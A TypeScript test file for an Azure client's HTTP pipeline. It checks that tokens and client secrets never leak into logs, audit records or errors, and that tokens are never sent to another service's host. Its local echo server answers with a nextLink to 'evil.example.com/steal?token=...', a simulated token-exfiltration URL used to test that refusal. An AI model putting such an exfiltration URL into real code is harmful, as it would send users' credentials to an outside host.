// Issue 13 §4: no token, secret or Authorization header ever reaches a log line, the audit log, an error message (as
// every face presents it) or an error printed whole, even when a server echoes the Authorization header back in its
// answer (body, error code, details, headers) or a credential fails with a secret in its message; and the bearer
// token goes only to the service it is for: a request (a nextLink, an Azure-AsyncOperation URL) whose host is another
// service's, even of the same cloud, is refused before a token is asked for.
import { strict as assert } from 'node:assert';
import { createServer as createHttpsServer, type Server as HttpsServer } from 'node:https';
import type { AddressInfo } from 'node:net';
import { inspect } from 'node:util';
import type { AccessToken, TokenCredential } from '@azure/core-auth';
import { ensureTlsMaterial } from '../../../emulator/tls';
import { ArmClient } from '../../../src/azure/clients/arm';
import { isAcgError, type AcgError } from '../../../src/azure/errors';
import { allowedHostsForCloud, collectAll, createPipeline, pageByNextLink, type HttpPipeline, type PipelineRequest, type PipelineResponse, type WriteAuditRecord } from '../../../src/azure/http';
import { getCloud } from '../../../src/core/clouds';
import { presentError } from '../../../src/host/presentError';
import { PRODUCTION_REF } from './clients.support';
import { CapturingLogger, rejection, startHarness, type Harness } from './pipelineHarness';

/** An opaque (non-JWT) token: only the pipeline's memory of issued tokens can catch it. */
const OPAQUE_TOKEN = 'SENTINELopaqueTOKEN7f3c9a1e5b2d8c4f';
const JWT_TOKEN = 'eyJhbGciOiJSUzI1NiJ9.eyJhdWQiOiJzZW50aW5lbCIsInNpZCI6IlNFTlRJTkVMIn0.U0VOVElORUwtc2lnbmF0dXJlLXNlbnRpbmVs';
const CLIENT_SECRET = 'SENTINEL~client~secret~Qx7.9aZ';

class FixedCredential implements TokenCredential {
  readonly calls: string[][] = [];
  constructor(private readonly token: string) {}
  async getToken(scopes: string | string[]): Promise<AccessToken> {
    this.calls.push([scopes].flat());
    return { token: this.token, expiresOnTimestamp: Date.now() + 3_600_000 };
  }
}

/** Fails the way a misconfigured service principal can: the token request (form body and all) in the message. */
class FailingCredential implements TokenCredential {
  async getToken(): Promise<AccessToken> {
    throw new Error(
      `ClientSecretCredential authentication failed: AADSTS7000215: Invalid client secret provided. Request body: client_id=0000&client_secret=${CLIENT_SECRET}&grant_type=client_credentials ` +
        `{"client_secret":"${CLIENT_SECRET}","access_token":"${OPAQUE_TOKEN}"} Authorization: Basic ${Buffer.from(`app:${CLIENT_SECRET}`).toString('base64')} last token ${JWT_TOKEN}`,
    );
  }
}

/** Every secret form a leak could take. */
const SECRETS = [OPAQUE_TOKEN, JWT_TOKEN, JWT_TOKEN.split('.')[2], CLIENT_SECRET, Buffer.from(`app:${CLIENT_SECRET}`).toString('base64')];

function assertNoSecret(where: string, texts: readonly string[]): void {
  assert.ok(texts.length > 0, `${where}: something was collected`);
  for (const text of texts) {
    for (const secret of SECRETS) assert.ok(!text.includes(secret), `${where}: a secret leaked into: ${text.slice(0, 300)}`);
  }
}

/** Everything a face could show or keep of an error. */
function surfaces(error: unknown): string[] {
  const presented = presentError(error);
  return [
    error instanceof Error ? error.message : String(error),
    JSON.stringify(presented),
    isAcgError(error) ? JSON.stringify({ code: error.code, details: error.details, requestId: error.requestId }) : '',
    inspect(error, { depth: 8 }),
  ];
}

/** An HTTPS server (emulator CA) that echoes whatever Authorization it receives, in every way an answer can. */
async function echoServer(dataDir: string): Promise<{ server: HttpsServer; origin: string; hits: () => number }> {
  const tls = ensureTlsMaterial(dataDir);
  let hits = 0;
  const server = createHttpsServer({ cert: tls.certPem, key: tls.keyPem }, (req, res) => {
    hits++;
    const authorization = req.headers.authorization ?? '';
    const token = authorization.replace(/^Bearer /, '');
    const path = req.url ?? '/';
    const echoHeaders = { 'x-echo-authorization': authorization, 'www-authenticate': `Bearer error="invalid_token", token="${token}"` };
    req.resume();
    req.on('end', () => {
      if (path.startsWith('/json')) {
        res.writeHead(path.startsWith('/json409') ? 409 : 400, { ...echoHeaders, 'content-type': 'application/json', 'x-ms-error-code': token, 'x-ms-request-id': token });
        res.end(
          JSON.stringify({
            error: { code: token, message: `The token ${token} is not valid here (you sent ${authorization}).`, target: token, details: [{ code: token, message: `echo ${token}`, target: token }] },
          }),
        );
      } else if (path.startsWith('/text')) {
        res.writeHead(503, { ...echoHeaders, 'content-type': 'text/plain' });
        res.end(`upstream refused ${token}; headers were Authorization: ${authorization}`);
      } else {
        res.writeHead(200, { ...echoHeaders, 'content-type': 'application/json' });
        res.end(JSON.stringify({ value: [{ token }], nextLink: `https://evil.example.com/steal?token=${token}&access_token=${token}` }));
      }
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { server, origin: `https://127.0.0.1:${(server.address() as AddressInfo).port}`, hits: () => hits };
}

describe('pipeline: no token or secret in any output, and tokens only to their own service (issue 13 §4)', function () {
  this.timeout(60_000);
  let h: Harness;
  let echo: Awaited<ReturnType<typeof echoServer>>;

  before(async () => {
    h = await startHarness();
    echo = await echoServer(h.dataDir);
  });
  after(async () => {
    await new Promise<void>((resolve) => echo.server.close(() => resolve()));
    await h.stop();
  });

  for (const [kind, token] of [
    ['an opaque token', OPAQUE_TOKEN],
    ['a JWT', JWT_TOKEN],
  ] as const) {
    it(`a server that echoes the Authorization header (${kind}) gets it into no log line, audit record or error`, async () => {
      const logger = new CapturingLogger();
      const records: WriteAuditRecord[] = [];
      const pipeline = createPipeline({
        credential: new FixedCredential(token),
        isAllowedHost: (url) => url.origin === echo.origin,
        ca: [h.emulator.caCertPem],
        logger,
        retry: { maxRetries: 2, baseDelayMs: 1, maxDelayMs: 2 },
        audit: { record: (record) => records.push(record) },
      });
      const errors: unknown[] = [];
      const send = async (request: Partial<PipelineRequest>): Promise<void> => {
        try {
          await pipeline.send({ method: 'GET', url: `${echo.origin}/json`, service: 'arm', operation: 'read the echo', scopes: ['https://management.azure.com/.default'], ...request });
        } catch (error) {
          errors.push(error);
        }
      };
      try {
        const before = echo.hits();
        await send({ url: `${echo.origin}/json` });
        await send({ url: `${echo.origin}/text` });
        await send({ method: 'PUT', url: `${echo.origin}/json409`, body: { a: 1 }, service: 'provisioning', gateway: 'echo' });
        await send({ method: 'DELETE', url: `${echo.origin}/text`, service: 'graph' });
        try {
          await collectAll(pageByNextLink(pipeline, { method: 'GET', url: `${echo.origin}/list`, service: 'arm', operation: 'list the echo', scopes: ['x/.default'] }));
        } catch (error) {
          errors.push(error);
        }
        assert.ok(echo.hits() - before >= 6, 'the echo server answered (with retries)');
      } finally {
        pipeline.dispose();
      }
      assert.equal(errors.length, 5, 'every call failed');
      assert.ok(logger.lines.some((l) => l.includes('"authorization":"[REDACTED]"')), 'the Authorization header was logged, redacted');
      assert.ok(records.length >= 2, 'the writes were audited');
      assertNoSecret('log', logger.lines);
      assertNoSecret('audit log', records.map((r) => JSON.stringify(r)));
      assertNoSecret('errors', errors.flatMap(surfaces));
    });
  }

  it('a credential that fails with the secret and tokens in its message gets them into no log line or error', async () => {
    const logger = new CapturingLogger();
    const pipeline = createPipeline({ credential: new FailingCredential(), isAllowedHost: (url) => url.origin === echo.origin, ca: [h.emulator.caCertPem], logger });
    const before = echo.hits();
    let error: AcgError;
    try {
      error = await rejection(pipeline.send({ method: 'GET', url: `${echo.origin}/json`, service: 'arm', operation: 'read the echo', scopes: ['https://management.azure.com/.default'] }));
    } finally {
      pipeline.dispose();
    }
    assert.equal(error.kind, 'notSignedIn');
    assert.match(error.message, /AADSTS7000215/, 'the reason is kept');
    assert.equal(echo.hits(), before, 'nothing was sent');
    assertNoSecret('error', surfaces(error));
    assertNoSecret('log', [...logger.lines, '(none)']);
  });

  describe('a token goes only to the service it is for', () => {
    const publicCloud = getCloud('AzureCloud');
    const crossings: [string, PipelineRequest['service'], string][] = [
      ['an ARM request to Microsoft Graph', 'arm', 'https://graph.microsoft.com/v1.0/me'],
      ['a Graph request to ARM', 'graph', 'https://management.azure.com/subscriptions?api-version=2022-12-01'],
      ['a Provisioning API request to ARM', 'provisioning', 'https://management.azure.com/subscriptions?api-version=2022-12-01'],
      ['an ARM request to a gateway’s Provisioning API', 'arm', 'https://provapi.cprod7a1b2c3.commsgw.azure.com/accounts'],
      ['an ARM request to the Entra authority', 'arm', 'https://login.microsoftonline.com/common/oauth2/v2.0/token'],
    ];
    for (const [name, service, url] of crossings) {
      it(`public cloud: refuses ${name} before asking for a token`, async () => {
        const credential = new FixedCredential(OPAQUE_TOKEN);
        const pipeline = createPipeline({ credential, isAllowedHost: allowedHostsForCloud(publicCloud) });
        try {
          const error = await rejection(pipeline.send({ method: 'GET', url, service, operation: 'cross services', scopes: ['https://management.azure.com/.default'] }));
          assert.equal(error.kind, 'refusedHost');
          assert.equal(credential.calls.length, 0, 'no token was asked for');
        } finally {
          pipeline.dispose();
        }
      });
    }

    it('emulator: an ARM nextLink that points at the emulator’s Graph is refused after the first page', async () => {
      h.credential.calls.length = 0;
      const real = h.pipeline();
      const tampering: HttpPipeline = {
        async send<T>(request: PipelineRequest): Promise<PipelineResponse<T>> {
          const response = await real.send<{ value: unknown[] }>(request);
          return { ...response, body: { ...response.body, nextLink: `${h.cloud.graph}/v1.0/users?$top=1` } as T };
        },
      };
      const url = h.armUrl(`/subscriptions/${PRODUCTION_REF.subscriptionId}/providers/Microsoft.VoiceServices/communicationsGateways`);
      const error = await rejection(collectAll(pageByNextLink(tampering, { method: 'GET', url, service: 'arm', operation: 'list gateways', scopes: [h.cloud.resourceManagerScope] })));
      assert.equal(error.kind, 'refusedHost');
      assert.equal(h.credential.calls.length, 1, 'a token only for the first page');
    });

    it('emulator: an Azure-AsyncOperation URL that points elsewhere is refused, and a failed operation’s echoed token is not shown', async () => {
      const real = h.pipeline();
      const sent: string[] = [];
      const rewriting = (asyncUrl: string, pollBody?: unknown): HttpPipeline => ({
        async send<T>(request: PipelineRequest): Promise<PipelineResponse<T>> {
          sent.push(request.url);
          if (request.method === 'GET' && request.url === asyncUrl && pollBody !== undefined) return { status: 200, headers: {}, body: pollBody as T, text: JSON.stringify(pollBody) };
          const response = await real.send<T>(request);
          return request.method === 'PUT' ? { ...response, status: 201, headers: { ...response.headers, 'azure-asyncoperation': asyncUrl, 'retry-after': '0' } } : response;
        },
      });
      const line = { phoneNumber: '+442079460999', purpose: 'Manual' } as const;
      h.credential.calls.length = 0;
      const elsewhere = `${h.cloud.graph}/v1.0/operations/1`;
      const refused = await rejection(new ArmClient(rewriting(elsewhere), h.cloud, { polling: { defaultDelayMs: 1, maxDelayMs: 1 } }).createTestLine(PRODUCTION_REF, 'sec-lro-1', line));
      assert.equal(refused.kind, 'refusedHost');
      assert.ok(sent.includes(elsewhere), 'the poll was attempted, and refused by the pipeline');

      const failedBody = { status: 'Failed', error: { code: 'Echo', message: `ARM saw Authorization: Bearer ${JWT_TOKEN} and token ${JWT_TOKEN}`, details: [{ code: 'Echo', message: `again ${JWT_TOKEN}` }] } };
      const own = h.armUrl(`/subscriptions/${PRODUCTION_REF.subscriptionId}/providers/Microsoft.VoiceServices/locations/eastus/operationStatuses/sec-op`);
      const failed = await rejection(new ArmClient(rewriting(own, failedBody), h.cloud, { polling: { defaultDelayMs: 1, maxDelayMs: 1 } }).createTestLine(PRODUCTION_REF, 'sec-lro-2', line));
      assert.match(failed.message, /failed/);
      assertNoSecret('failed operation', surfaces(failed));
    });
  });
});
